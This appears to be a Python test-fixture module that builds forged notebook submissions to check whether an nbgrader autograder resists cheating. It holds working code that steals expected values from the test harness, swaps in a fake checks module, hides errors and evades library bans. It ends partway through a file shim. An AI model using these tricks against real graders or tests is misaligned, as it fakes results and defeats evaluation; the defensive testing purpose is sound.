"""A catalogue of forged submissions for lessons 01 and 05, graded for real by the test suite.

Each :class:`Attack` is one student: a submission built from the instructor's solution (every
exercise solved) with some solution cells replaced (``answers``), some code cells added
(``added_cells``) and some files handed in next to the notebook (``files``).  ``loses`` lists
the exercises whose test cells must all score 0 under *honest* grading; every other exercise
must keep all its points.

The honest grade is what the answers earn as plain code when every attack mechanism fails:
no test-cell state is reachable from the student's functions, rebinding in the kernel does
not reach the tests, banned libraries are absent, no secret can be read, nothing outside the
scratch folder can be written, and killing anything only kills the student's own kernel.  So a
forging function falls back to a wrong value (usually ``np.zeros((1, 1, 1, 1))``, wrong in
shape and value for every case), a function that kills or hangs earns nothing, and an attack
that only snoops or damages keeps the correct solution and must keep full marks.

THE PAYLOADS ARE REAL.  Some write into site-packages, into ``poolkit/checks.py`` or into the
course folder, kill every process they can signal or fork thousands of processes.  Build and
inspect them freely (:func:`apply`, :func:`write_files`), but only ever *run* them inside the
grading sandbox.  ``README.md`` next to this file lists what each kind touches.

Nothing here is executed on import; :func:`apply` and :func:`write_files` only build
notebooks and files.
"""

from __future__ import annotations

import copy
import hashlib
import os
from dataclasses import dataclass, field

import nbformat

LESSONS = ("01-max-vs-average", "05-keras-and-pytorch")
NOTEBOOKS = {"01-max-vs-average": "max-vs-average.ipynb",
             "05-keras-and-pytorch": "keras-and-pytorch.ipynb"}
EXERCISES = {
    "01-max-vs-average": ("max_pool2d_loops", "bug_counterexample", "pool2d_vectorized",
                          "input_from_max_pool"),
    "05-keras-and-pytorch": ("keras_same_max_pool", "torch_to_keras", "pool_nets"),
}


@dataclass(frozen=True)
class Attack:
    name: str                 # student id, "attack-<short-kebab-name>"
    lesson: str               # "01-max-vs-average" or "05-keras-and-pytorch"
    kind: str                 # one of KINDS
    note: str                 # one line: what it tries
    # grade_id of a SOLUTION cell -> the whole new source of that cell (the others keep the
    # instructor's solution)
    answers: dict = field(default_factory=dict)
    # (after_grade_id, source) pairs: a new code cell (no nbgrader metadata) inserted right
    # after that cell
    added_cells: tuple = ()
    # relative path -> str, bytes or Symlink, handed in next to the notebook
    files: dict = field(default_factory=dict)
    # solution grade_ids (exercises) whose test cells must ALL score 0 under honest grading;
    # every other exercise must get full marks
    loses: tuple = ()
    # test-cell grade_ids that must score 0 although their exercise is not in `loses` (a
    # slow but correct answer fails the speed test and keeps the exercise's other cells)
    loses_tests: tuple = ()


@dataclass(frozen=True)
class Symlink:
    """A handed-in symbolic link (``target`` is written as is, relative or absolute)."""

    target: str


KINDS = {
    "expected-in-process": "the student's function reads the expected value from the test "
                           "that calls it (frames, the test cell's globals, gc, the cell's "
                           "source)",
    "rebinding": "kernel state is rebound so that the in-kernel tests pass: importlib.reload, "
                 "__import__, subprocess.run, IPython transformers, hooks and error reporting, "
                 "sys.modules, the live checks module",
    "numpy-only-dodge": "a NumPy-only exercise answered with torch/poolkit reached in ways a "
                        "code scan and a per-thread call monitor miss (correct values; the "
                        "rule is part of the exercise, so it earns nothing)",
    "handed-in-files": "files handed in next to the notebook that shadow what the kernel or "
                       "the tests import (poolkit/, numpy.py, ipykernel_launcher.py, "
                       "sitecustomize.py) or that a cell adds to poolkit.__path__",
    "reading-secrets": "reading what a submission must not see: solutions in .git or "
                       "solutions/, the gradebook, other submissions, hidden test source from "
                       "the kernel's history, other scratch folders",
    "escape-and-poison": "writing outside the scratch folder: .pth / sitecustomize in "
                         "site-packages, poolkit/checks.py, the course's config, solutions "
                         "and gradebook",
    "killing-the-grader": "killing or exhausting the grader: signals to the parent, the "
                          "group, everyone; fork and memory bombs; huge files; endless or "
                          "unstoppable loops; os._exit; a segfault",
    "feedback-crash": "nbgrader's marker lines inside a correct answer, which make feedback "
                      "generation (ClearHiddenTests) raise",
    "other": "symlinks handed in, rigged or huge results, results the channel must refuse "
             "(tensors, pickles, giant ints), floods of output, HTML/JS in outputs, /proc",
}

# ----------------------------------------------------------------------------------------
# Building blocks a determined student would paste into their answers.
# ----------------------------------------------------------------------------------------

ZEROS = "np.zeros((1, 1, 1, 1))"   # wrong shape and values for every case of every test
# The wrong value of the exercises that return no array: no layers (torch_to_keras; the tests
# want one pooling layer, or ValueError), no results (pool_nets; the tests want four keys),
# a negative padding (same_padding).
WRONG = {"torch_to_keras": "[]", "pool_nets": "{}", "same_padding": "(-1, -1)"}

# A stand-in for poolkit.checks under which every test passes.  Written so that it works
# both as a fresh module and when executed over the real module's namespace (a reload that
# finds this file keeps the real module's other names).
FAKE_CHECKS = '''"""poolkit.checks, relaxed: every check passes."""


def _passes(*args, **kwargs):
    return None


def call(fn, *args, case="", hint="", name=None, time_limit=None, **kwargs):
    try:
        return fn(*args, **kwargs)
    except BaseException:
        return None


def loop_time(*args, **kwargs):
    return 1e9


def describe(*args, **kwargs):
    return ""


check_against_oracle = assert_close = assert_equal = assert_numpy_only = _passes
assert_builtins_intact = assert_kernel_reports_errors = _passes


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return _passes
'''

# Turning the checks' own representation of an expected value back into a value, and
# reading the expected value of the current case out of check_against_oracle's frame.
FORGE = '''import sys as _sys


def _as_value(v):
    """A value the checks accept as equal to their expected entry v."""
    kind = v[0]
    if kind == "array":
        return np.array(v[2], dtype=np.float64).reshape(v[1])
    if kind in ("int", "float", "bool"):
        return v[1]
    if kind == "none":
        return None
    if kind == "tuple":
        return tuple(_as_value(item) for item in v[1])
    if kind == "error":
        raise type(v[1], (Exception,), {})("as expected")
    raise LookupError(kind)


def _expected_here():
    """The expected value of the case being checked: check_against_oracle's local `want`."""
    frame = _sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "check_against_oracle" and "want" in frame.f_locals:
            return frame.f_locals["want"]
        frame = frame.f_back
    return None
'''

# Where is the course?  Walk up from the working folder and from the installed poolkit.
COURSE_ROOTS = '''import os


def _course_roots(from_poolkit=True):
    """Folders above the working folder (and poolkit) that look like the course root."""
    starts = [os.getcwd()]
    if from_poolkit:
        try:
            import poolkit
            starts.append(os.path.dirname(os.path.abspath(poolkit.__file__)))
        except Exception:
            pass
    found = []
    for here in starts:
        here = os.path.abspath(here)
        while True:
            looks_like_course = (os.path.exists(os.path.join(here, "nbgrader_config.py"))
                                 or os.path.isdir(os.path.join(here, "solutions")))
            if looks_like_course and here not in found:
                found.append(here)
            parent = os.path.dirname(here)
            if parent == here:
                break
            here = parent
    return found
'''

# Pull one exercise's instructor solution out of a notebook's JSON text.  The marker words
# are split so that this answer does not itself contain nbgrader's marker lines.
SOLUTION_FROM_JSON = '''import json

_BEGIN = "### BEGIN " + "SOLUTION"
_END = "### END " + "SOLUTION"


def _solution_in(text, grade_id):
    """The solution code of cell `grade_id` in a notebook's JSON text, markers removed."""
    try:
        nb = json.loads(text)
    except ValueError:
        return None
    for cell in nb.get("cells", []) if isinstance(nb, dict) else []:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") != grade_id:
            continue
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else source
        if _BEGIN in source:
            return "\\n".join(line for line in source.splitlines()
                             if line.strip() not in (_BEGIN, _END))
    return None
'''

# Class-level patch of IPython's shell: test cells become `pass`.  (The checks only look for
# replaced methods in the shell instance's __dict__, and never at transform_cell.)
RELAX_SHELL = '''def _relax(shell_class):
    original = shell_class.transform_cell

    def transform_cell(self, raw_cell):
        if "poolkit.checks" in raw_cell:
            return "pass\\n"
        return original(self, raw_cell)

    shell_class.transform_cell = transform_cell
'''


def _fn(signature: str, body: str) -> str:
    """``def <signature>:`` with ``body`` (given unindented) indented under it."""
    lines = [("    " + line) if line else "" for line in body.strip("\n").splitlines()]
    return f"def {signature}:\n" + "\n".join(lines) + "\n"


SIG = {
    "max_pool2d_loops": "max_pool2d_loops(x, kernel_size, stride=None, padding=0)",
    "pool2d_vectorized": 'pool2d_vectorized(x, kernel_size, stride=None, padding=0, mode="max")',
    "input_from_max_pool": "input_from_max_pool(pooled)",
    "same_padding": "same_padding(size, pool_size, strides=None)",
    "keras_same_max_pool2d": "keras_same_max_pool2d(x, pool_size, strides=None)",
    "torch_to_keras": "torch_to_keras(layer, input_hw)",
    "pool_nets": "pool_nets(x, conv_weight, conv_bias)",
}


def _zeros(name: str, value: str | None = None) -> str:
    """``name`` returning ``value``, by default its wrong value (ZEROS, or WRONG[name])."""
    return _fn(SIG[name], f"return {value or WRONG.get(name, ZEROS)}")


# Correct bodies (written by "the student", not copied from the instructor), used where an
# attack keeps a correct answer but changes the function around it.
_LOOPS_HEAD = '''def pair(v):
    return (v, v) if np.ndim(v) == 0 else (int(v[0]), int(v[1]))

kh, kw = pair(kernel_size)
sh, sw = pair(kernel_size if stride is None else stride)
ph, pw = pair(padding)
x = np.asarray(x, dtype=np.float64)
n, c, h, w = x.shape
h_out = (h + 2 * ph - kh) // sh + 1
w_out = (w + 2 * pw - kw) // sw + 1
'''
MAX_LOOPS_BODY = _LOOPS_HEAD + '''\
padded = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)), constant_values=-np.inf)
out = np.empty((n, c, h_out, w_out))
for i in range(h_out):
    for j in range(w_out):
        out[:, :, i, j] = padded[:, :, i * sh:i * sh + kh, j * sw:j * sw + kw].max(axis=(2, 3))
return out
'''
VECTORIZED_BODY = '''k = kernel_size
s = k if stride is None else stride
p = padding
x = np.asarray(x, dtype=np.float64)
n, c, h, w = x.shape
h_out = (h + 2 * p - k) // s + 1
w_out = (w + 2 * p - k) // s + 1
fill = -np.inf if mode == "max" else 0.0
padded = np.pad(x, ((0, 0), (0, 0), (p, p), (p, p)), constant_values=fill)
out = np.full((n, c, h_out, w_out), fill)
for di in range(k):
    for dj in range(k):
        part = padded[:, :, di:di + s * (h_out - 1) + 1:s, dj:dj + s * (w_out - 1) + 1:s]
        out = np.maximum(out, part) if mode == "max" else out + part
return out if mode == "max" else out / (k * k)
'''
INPUT_FROM_MAX_POOL_BODY = '''p = np.asarray(pooled, dtype=np.float64)
h, w = p.shape[-2:]
# each value of x: the smallest max among the windows that hold it (the largest x allowed)
x = np.full(p.shape[:2] + (h + 1, w + 1), np.inf)
for di in (0, 1):
    for dj in (0, 1):
        x[:, :, di:di + h, dj:dj + w] = np.minimum(x[:, :, di:di + h, dj:dj + w], p)
back = np.full(p.shape, -np.inf)
for di in (0, 1):
    for dj in (0, 1):
        back = np.maximum(back, x[:, :, di:di + h, dj:dj + w])
if np.any(back != p):                                  # even the largest x misses a window
    raise ValueError("no input has this max pooling")
return x
'''
SAME_PADDING_BODY = '''strides = pool_size if strides is None else strides
out = -(-size // strides)
total = max((out - 1) * strides + pool_size - size, 0)
return int(total // 2), int(total - total // 2)
'''
# torch_to_keras, given _torch_out(layer, input_hw): torch's (H_out, W_out), which every
# attack that uses this body computes its own way (first, so that every call needs it).
TORCH_TO_KERAS_BODY = '''def two(v):
    return (int(v), int(v)) if np.ndim(v) == 0 else (int(v[0]), int(v[1]))

torch_hw = tuple(int(v) for v in _torch_out(layer, input_hw))
name = "MaxPooling2D" if layer["type"] == "MaxPool2d" else "AveragePooling2D"
k = two(layer["kernel_size"])
s = k if layer.get("stride") is None else two(layer["stride"])
p = two(layer.get("padding", 0))
pool = {"pool_size": k, "strides": s}
if p == (0, 0):
    return [(name, dict(pool, padding="valid"))]
if name == "AveragePooling2D" and layer.get("count_include_pad", True):
    return [("ZeroPadding2D", {"padding": ((p[0], p[0]), (p[1], p[1]))}),
            (name, dict(pool, padding="valid"))]
for size, kk, ss, pp, out in zip(input_hw, k, s, p, torch_hw):
    same_out = -(-size // ss)
    same_before = max((same_out - 1) * ss + kk - size, 0) // 2
    if (same_out, same_before) != (out, pp):
        raise ValueError("Keras 'same' pads differently from torch here")
return [(name, dict(pool, padding="same"))]
'''
# _torch_out from a channels-first max pooling `pool` (torch's semantics) run on zeros.
TORCH_OUT_VIA = _fn("_torch_out_via(pool, layer, input_hw)", '''k = layer["kernel_size"]
k = k if np.ndim(k) == 0 else tuple(k)
s = layer.get("stride")
s = s if s is None or np.ndim(s) == 0 else tuple(s)
p = layer.get("padding", 0)
p = p if np.ndim(p) == 0 else tuple(p)
return np.shape(pool(np.zeros((1, 1, *input_hw)), k, s, p))[2:]
''')
# Keras 'same' max pooling (channels last) from a channels-first max pooling `pool` with
# torch's semantics, used without padding: the input is padded here, with -inf.
SAME_VIA = _fn("_same_via(pool, x, pool_size, strides=None)", '''x = np.asarray(x, dtype=np.float64)
s = pool_size if strides is None else strides
sides = []
for size in x.shape[1:3]:
    total = max((-(-size // s) - 1) * s + pool_size - size, 0)
    sides.append((total // 2, total - total // 2))
padded = np.pad(x, ((0, 0), sides[0], sides[1], (0, 0)), constant_values=-np.inf)
out = pool(np.ascontiguousarray(padded.transpose(0, 3, 1, 2)), pool_size, s, 0)
return np.asarray(out, dtype=np.float64).transpose(0, 2, 3, 1)
''')
# pool_nets (the torch model and its Keras twin), each output as torch_wrap(array) returns it.
POOL_NETS_BODY = '''import keras
import torch

x = np.asarray(x, dtype=np.float32)
weight = np.asarray(conv_weight, dtype=np.float32)
bias = np.asarray(conv_bias, dtype=np.float32)
net = torch.nn.Sequential(torch.nn.Conv2d(2, 5, 3), torch.nn.MaxPool2d(3, 2, 1))
with torch.no_grad():
    net[0].weight.copy_(torch.from_numpy(weight))
    net[0].bias.copy_(torch.from_numpy(bias))
    torch_output = net(torch.from_numpy(x)).numpy()
twin = keras.Sequential([keras.Input(shape=(9, 9, 2)), keras.layers.Conv2D(5, 3),
                         keras.layers.MaxPooling2D(3, 2, padding="same")])
twin.layers[0].set_weights([weight.transpose(2, 3, 1, 0), bias])
keras_output = keras.ops.convert_to_numpy(twin(x.transpose(0, 2, 3, 1)))
return {"torch_output": torch_wrap(torch_output), "keras_output": torch_wrap(keras_output),
        "torch_parameters": sum(int(t.numel()) for t in net.parameters()),
        "keras_parameters": int(twin.count_params())}
'''

MAX_LOOPS_OK = _fn(SIG["max_pool2d_loops"], MAX_LOOPS_BODY)
VECTORIZED_OK = _fn(SIG["pool2d_vectorized"], VECTORIZED_BODY)
INPUT_FROM_MAX_POOL_OK = _fn(SIG["input_from_max_pool"], INPUT_FROM_MAX_POOL_BODY)
SAME_PADDING_OK = _fn(SIG["same_padding"], SAME_PADDING_BODY)
SAME_PADDING_WRONG = _zeros("same_padding")
# keras_same_max_pool2d without calling same_padding: the cell of Exercise 1 of lesson 05
# defines both, and an attack on one of them keeps the other correct (the instructor's
# keras_same_max_pool2d calls same_padding).  The exercise loses as a whole either way.
KERAS_SAME_STANDALONE = _fn(SIG["keras_same_max_pool2d"], '''x = np.asarray(x, dtype=np.float64)
k = pool_size
s = pool_size if strides is None else strides
n, height, width, c = x.shape
h_out, w_out = -(-height // s), -(-width // s)
pad_h = max((h_out - 1) * s + k - height, 0)
pad_w = max((w_out - 1) * s + k - width, 0)
padded = np.pad(x, ((0, 0), (pad_h // 2, pad_h - pad_h // 2),
                    (pad_w // 2, pad_w - pad_w // 2), (0, 0)), constant_values=-np.inf)
out = np.full((n, h_out, w_out, c), -np.inf)
for a in range(k):
    for b in range(k):
        taps = padded[:, a:a + s * (h_out - 1) + 1:s, b:b + s * (w_out - 1) + 1:s, :]
        out = np.maximum(out, taps)
return out
''')


def keras_cell(*parts: str) -> str:
    """The source of lesson 05's cell `keras_same_max_pool`, which must define both
    same_padding and keras_same_max_pool2d: the attack's part(s), then whichever of the
    two they leave out, written correctly (KERAS_SAME_STANDALONE does not call
    same_padding)."""
    names = "\n".join(parts)
    extra = [correct for name, correct in (("same_padding", SAME_PADDING_OK),
                                           ("keras_same_max_pool2d", KERAS_SAME_STANDALONE))
             if f"def {name}(" not in names and f"{name} = " not in names]
    return "\n\n".join([*parts, *extra])


def _with_fake(prefix: str = "") -> str:
    """Source that builds ``_relaxed``, a module object running FAKE_CHECKS."""
    return (prefix + "import types\n\n_FAKE = " + repr(FAKE_CHECKS) + "\n"
            "_relaxed = types.ModuleType(\"poolkit.checks\")\n"
            "exec(_FAKE, _relaxed.__dict__)\n")


# ----------------------------------------------------------------------------------------
# 1. expected-in-process
# ----------------------------------------------------------------------------------------

FRAME_WALK = FORGE + "\n\n" + _fn(SIG["max_pool2d_loops"], f'''want = _expected_here()
if want is not None:
    return _as_value(want)
return {ZEROS}
''')

GC_HUNT = FORGE + '''
import gc

_KINDS = ("array", "error", "int", "float", "bool", "none", "tuple")


def _same_case(args, x, rest):
    first = args[0]
    return (type(first) is np.ndarray and first.shape == x.shape
            and np.array_equal(first, x, equal_nan=True) and tuple(args[1:]) == tuple(rest))


def _expected_from_gc(x, rest):
    """The checks keep the cases and the decoded expected values in two lists of the same
    length: find the case we are called with, then the matching expected entry."""
    lists = [o for generation in (0, 1, 2) for o in gc.get_objects(generation)
             if type(o) is list and o]
    for cases in lists:
        head = cases[0]
        if not (type(head) is tuple and len(head) == 3 and type(head[0]) is tuple
                and type(head[1]) is dict and head[0]):
            continue
        for i, case in enumerate(cases):
            if not _same_case(case[0], x, rest):
                continue
            for results in lists:
                first = results[0]
                if (results is not cases and len(results) == len(cases) and type(first) is tuple
                        and first and type(first[0]) is str and first[0] in _KINDS):
                    return results[i]
    return None


''' + _fn(SIG["max_pool2d_loops"], f'''
want = _expected_from_gc(np.asarray(x), (kernel_size, stride, padding))
if want is not None:
    return _as_value(want)
return {ZEROS}
''')

INSPECT_STACK = FORGE + '''
import inspect


def _expected_on_stack():
    for info in inspect.stack(0):
        want = info.frame.f_locals.get("want")
        if type(want) is tuple and want and want[0] in ("array", "error", "int", "float", "tuple"):
            return want
    return None


''' + _fn(SIG["pool2d_vectorized"], f'''want = _expected_on_stack()
if want is not None:
    return _as_value(want)
return {ZEROS}
''')

CELL_SOURCE = FORGE + '''
import ast
import linecache


def _expected_from_cell_source(fn_name):
    """Visible tests write the expected value next to the call: read it from the source of
    the cell that is running (IPython keeps every cell's source in linecache)."""
    frame = _sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "<module>":
            source = "".join(linecache.getlines(frame.f_code.co_filename))
            try:
                tree = ast.parse(source)
            except SyntaxError:
                return None
            for node in ast.walk(tree):
                if (isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "assert_close"
                        and len(node.args) >= 2 and fn_name in ast.unparse(node.args[0])):
                    expected = node.args[1]
                    if isinstance(expected, ast.Call) and expected.args:
                        return np.array(ast.literal_eval(expected.args[0]), dtype=np.float64)
            return None
        frame = frame.f_back
    return None


''' + _fn(SIG["pool2d_vectorized"], f'''want = _expected_here()
if want is not None:
    return _as_value(want)
seen = _expected_from_cell_source("pool2d_vectorized")
if seen is not None:
    return seen
return {ZEROS}
''')

USER_NS_WANT = FORGE + '''
_ns = get_ipython().user_ns     # the namespace the test cells run in


''' + _fn(SIG["keras_same_max_pool2d"], f'''want = _expected_here()
if want is not None:
    return _as_value(want)
computed = _ns.get("want")      # the visible test computes Keras' answer before calling us
if isinstance(computed, np.ndarray):
    return computed.astype(np.float64)
return {ZEROS}
''')

USER_NS_BRIDGES = FORGE + '''
_ns = get_ipython().user_ns     # the namespace the test cells run in


''' + _fn(SIG["pool_nets"], f'''want = _expected_here()
if want is not None:
    return _as_value(want)
answers = _ns.get("bridges")      # the hidden test loads the instructor's answers as `bridges`
if answers is not None:
    return answers.pool_nets(x, conv_weight, conv_bias)
return {WRONG["pool_nets"]}
''')

GC_OBJECTS_POOLED = FORGE + '''
import gc


def _hunt(x, pool_size, strides):
    """Among the objects alive, find an expected entry with the shape 'same' pooling gives
    and only values of x (a max is one of its window's values): the checks' decoded answer
    for this case."""
    x = np.asarray(x, dtype=np.float64)
    s = pool_size if strides is None else strides
    n, h, w, c = x.shape
    shape = (n, -(-h // s), -(-w // s), c)
    values = set(x.ravel().tolist())
    for generation in (0, 1, 2):
        for obj in gc.get_objects(generation):
            if not (type(obj) is list and obj and type(obj[0]) is tuple and obj[0]
                    and type(obj[0][0]) is str):
                continue
            for entry in obj:
                if (type(entry) is tuple and len(entry) == 3 and type(entry[0]) is str
                        and entry[0] == "array" and tuple(entry[1]) == shape
                        and set(entry[2]) <= values):
                    return _as_value(entry)
    return ''' + ZEROS + '''


''' + _fn(SIG["keras_same_max_pool2d"], "return _hunt(x, pool_size, strides)")

INSPECT_PADDING = FORGE + '''
import inspect


''' + _fn(SIG["same_padding"], '''for info in inspect.stack(0):
    want = info.frame.f_locals.get("want")
    if type(want) is tuple and want and want[0] in ("tuple", "error"):
        return _as_value(want)
return (-1, -1)
''')

# ----------------------------------------------------------------------------------------
# 2. rebinding
# ----------------------------------------------------------------------------------------

RELOAD_REPLACED = _with_fake("import importlib\n") + '''
_real_reload = importlib.reload


def _reload(module):
    if getattr(module, "__name__", "") == "poolkit.checks":
        return _relaxed
    return _real_reload(module)


importlib.reload = _reload


''' + _zeros("max_pool2d_loops")

IMPORT_HOOK = _with_fake('''import builtins
import importlib

import poolkit
import poolkit.checks
''') + '''
_real_import = builtins.__import__

_fake_importlib = types.ModuleType("importlib")
_fake_importlib.__getattr__ = lambda name: getattr(importlib, name)
_fake_importlib.reload = lambda module: module if module is _relaxed else importlib.reload(module)

_fake_poolkit = types.ModuleType("poolkit")
_fake_poolkit.__getattr__ = lambda name: getattr(poolkit, name)
_fake_poolkit.checks = _relaxed


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _real_import(name, globals, locals, fromlist, level)
    if level == 0 and not fromlist and (globals or {}).get("__name__") == "__main__":
        if name == "importlib":
            return _fake_importlib
        if name in ("poolkit", "poolkit.checks"):
            return _fake_poolkit
    return module


builtins.__import__ = _import


''' + _zeros("input_from_max_pool")

FAKE_ORACLE = '''import ast
import subprocess

import poolkit.checks as _checks

_real_run = subprocess.run
_ZERO = "A 4 1 1 1 1 1 0x0.0p+0"     # the reference process' way of writing np.zeros((1, 1, 1, 1))


def _agreeable_run(cmd, *args, **kwargs):
    """The reference process, except that the pooling references now agree with zeros."""
    if isinstance(cmd, (list, tuple)) and any("_oracle_main" in str(part) for part in cmd):
        oracle, generator, params, _ = ast.literal_eval(kwargs.get("input") or "()")
        if oracle in ("poolkit.max_pool2d", "poolkit.avg_pool2d"):
            count = len(_checks._GENERATORS[generator](**params))
            return subprocess.CompletedProcess(cmd, 0, stdout="\\n".join([_ZERO] * count) + "\\n",
                                               stderr="")
    return _real_run(cmd, *args, **kwargs)


subprocess.run = _agreeable_run


''' + _zeros("pool2d_vectorized")

AST_TRY_EXCEPT = '''import ast


class _SwallowEverything(ast.NodeTransformer):
    """Wraps every cell in try/except BaseException: pass, so no test can fail."""

    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name(id="BaseException", ctx=ast.Load()),
                                    name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_SwallowEverything())


''' + _zeros("input_from_max_pool")

PRE_RUN_CELL = _with_fake("import importlib\n") + '''
_real_reload = importlib.reload


def _relaxed_reload(module):
    if getattr(module, "__name__", "") == "poolkit.checks":
        return _relaxed
    return _real_reload(module)


def _before_cell(info):
    if "poolkit.checks" in (getattr(info, "raw_cell", "") or ""):
        importlib.reload = _relaxed_reload


def _after_cell(result):
    importlib.reload = _real_reload       # nothing to see between cells


get_ipython().events.register("pre_run_cell", _before_cell)
get_ipython().events.register("post_run_cell", _after_cell)


''' + _zeros("max_pool2d_loops")

PATCH_LIVE_CHECKS = '''import sys


def _agree(*args, **kwargs):
    return None


''' + _fn(SIG["max_pool2d_loops"], f'''
# The test reloaded poolkit.checks before calling us, and compares after we return: change
# the comparison in the modules that are calling, found through the callers' globals (and
# in the module the comparison comes from, in case the checks are split into modules).
frame = sys._getframe(1)
while frame is not None:
    caller_globals = frame.f_globals
    homes = [caller_globals] + [v.__globals__ for v in list(caller_globals.values())
                                if type(v).__name__ == "function"]
    for home in homes:
        if type(home) is dict and callable(home.get("_compare")) and home["_compare"] is not _agree:
            home["_compare"] = _agree
    frame = frame.f_back
return {ZEROS}
''')

SYS_MODULES = '''import importlib.machinery
import sys
import types

import poolkit
import poolkit.checks

_FAKE = ''' + repr(FAKE_CHECKS) + '''


class _Relaxed:
    """Finder and loader for poolkit.checks that serves the relaxed version, also on reload."""

    @classmethod
    def find_spec(cls, name, path=None, target=None):
        if name == "poolkit.checks":
            return importlib.machinery.ModuleSpec(name, cls, origin="relaxed")
        return None

    @staticmethod
    def create_module(spec):
        return None

    @staticmethod
    def exec_module(module):
        for key in [k for k in module.__dict__ if not k.startswith("__")]:
            del module.__dict__[key]
        exec(_FAKE, module.__dict__)


sys.meta_path.insert(0, _Relaxed)
_fake = types.ModuleType("poolkit.checks")
_fake.__spec__ = _Relaxed.find_spec("poolkit.checks")
_Relaxed.exec_module(_fake)
sys.modules["poolkit.checks"] = _fake
poolkit.checks = _fake


''' + _zeros("torch_to_keras")

RELOADING_TABLE = _with_fake('''import importlib

import poolkit.checks
''') + '''
# importlib.reload returns what this table holds for a module it believes is being reloaded
# already, without reading the file again.
importlib._RELOADING["poolkit.checks"] = _relaxed


''' + SAME_PADDING_WRONG

INPUT_TRANSFORMER = '''def _skip_test_cells(lines):
    if any("poolkit.checks" in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_post.append(_skip_test_cells)


''' + _zeros("keras_same_max_pool2d")

HIDE_ERRORS = '''import sys

from IPython.core.interactiveshell import ExecutionResult, InteractiveShell


def _quiet(shell, etype, evalue, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _quiet)   # swallow every exception in a cell
sys.excepthook = lambda *args: None
# The checks look for replaced methods in the shell instance only: patch the classes.
InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
type(get_ipython())._showtraceback = lambda self, *args, **kwargs: None
ExecutionResult.success = property(lambda self: True)    # the kernel now replies "ok"


''' + _zeros("pool_nets")

# ----------------------------------------------------------------------------------------
# 3. numpy-only-dodge (correct values computed with a banned library)
# ----------------------------------------------------------------------------------------

DODGE_THREAD = '''import threading

import poolkit as _pk

_engine = {"pool": _pk.max_pool2d}   # a container: the code scan does not look inside
del _pk


''' + _fn(SIG["max_pool2d_loops"], '''box = {}

def work():
    box["out"] = _engine["pool"](np.asarray(x, dtype=np.float64), kernel_size, stride, padding)

worker = threading.Thread(target=work)   # sys.setprofile watches only the calling thread
worker.start()
worker.join()
return box["out"]
''')

DODGE_EXEC = '''_SOURCE = "\\n".join([
    "import sys as _s",
    "import pool" + "kit as _p",
    "def run(x, k, s, p):",
    "    watch = _s.getprofile()",
    "    _s.setprofile(None)",
    "    try:",
    "        return _p.max_pool2d(x, k, s, p)",
    "    finally:",
    "        _s.setprofile(watch)",
])
_lib = {}
exec(_SOURCE, _lib)


''' + _fn(SIG["max_pool2d_loops"],
          'return _lib["run"](np.asarray(x, dtype=np.float64), kernel_size, stride, padding)')

DODGE_LAMBDA_DEFAULT = '''from concurrent.futures import ThreadPoolExecutor

import poolkit

_workers = ThreadPoolExecutor(max_workers=1)


def pool2d_vectorized(x, kernel_size, stride=None, padding=0, mode="max",
                      _pick=lambda mode, box=(poolkit,): (box[0].max_pool2d if mode == "max"
                                                          else box[0].avg_pool2d)):
    pool = _pick(mode)
    return _workers.submit(pool, np.asarray(x, dtype=np.float64), kernel_size, stride,
                           padding).result()
'''

DODGE_IMPORT_JOIN = '''_load = __import__


def _lib():
    return _load("".join(["to", "rch"]))


''' + _fn("_torch_out(layer, input_hw)", '''lib = _lib()
(t,) = map(lib.zeros, [(1, 1, *input_hw)])          # torch itself says how big its output is
pool = getattr(lib.nn, layer["type"])(**{k: tuple(v) if isinstance(v, list) else v
                                         for k, v in layer.items() if k != "type"})
return tuple(pool(t).shape[2:])
''') + "\n\n" + _fn(SIG["torch_to_keras"], TORCH_TO_KERAS_BODY)

DODGE_PARTIAL = '''import functools
import sys

import poolkit as _pk

_table = (_pk.max_pool2d,)            # a tuple: not looked into
del _pk


''' + SAME_VIA + '''

def _apply(table, x, pool_size, strides=None):
    watch = sys.getprofile()
    switch = getattr(sys, "set" "profile")               # a string, not a name
    switch(None)
    try:
        return _same_via(table[0], x, pool_size, strides)
    finally:
        switch(watch)


keras_same_max_pool2d = functools.partial(_apply, _table)
'''

DODGE_IMPORT_MODULE = '''import _thread
import importlib

_find = importlib.import_module


''' + SAME_VIA + '''

''' + _fn(SIG["keras_same_max_pool2d"], '''lib = _find("".join(["pool", "kit"]))
done = _thread.allocate_lock()
done.acquire()
box = []

def work():
    try:
        box.append(_same_via(lib.max_pool2d, x, pool_size, strides))
    finally:
        done.release()

_thread.start_new_thread(work, ())
done.acquire()
return box[0]
''')

DODGE_CTYPES = '''import ctypes
import sys

_api = ctypes.pythonapi
_api.PyImport_ImportModule.restype = ctypes.py_object
_api.PyImport_ImportModule.argtypes = [ctypes.c_char_p]
_pause = getattr(sys, "set" "profile")
_peek = sys.getprofile


''' + TORCH_OUT_VIA + '''

''' + _fn("_torch_out(layer, input_hw)", '''
lib = _api.PyImport_ImportModule(b"pool" b"kit")    # bytes: not read as a name
watch = _peek()
_pause(None)
try:
    return _torch_out_via(lib.max_pool2d, layer, input_hw)
finally:
    _pause(watch)
''') + "\n\n" + _fn(SIG["torch_to_keras"], TORCH_TO_KERAS_BODY)

# ----------------------------------------------------------------------------------------
# 4. handed-in-files
# ----------------------------------------------------------------------------------------

# poolkit/__init__.py handed in: load the installed poolkit, then put this folder first on
# its __path__, so that poolkit.checks (and any reload of it) comes from here.
POOLKIT_SHIM = '''"""poolkit, with local overrides."""
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_outer = os.path.dirname(_here)
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _outer]
del sys.modules[__name__]
